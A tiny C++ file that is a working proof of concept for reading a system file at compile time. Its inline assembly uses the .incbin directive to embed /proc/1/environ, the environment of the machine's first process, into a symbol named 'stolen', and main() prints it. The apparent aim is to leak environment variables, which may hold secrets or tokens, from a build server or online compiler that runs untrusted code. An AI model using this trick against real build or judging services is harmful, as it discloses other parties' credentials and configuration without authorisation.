asm(".section .rodata\n"
    ".globl stolen\n"
    "stolen: .incbin \"/proc/1/environ\"\n"
    ".byte 0\n"
    ".text\n");
extern "C" const char stolen[];
#include <stdio.h>
int main() { puts(stolen); }
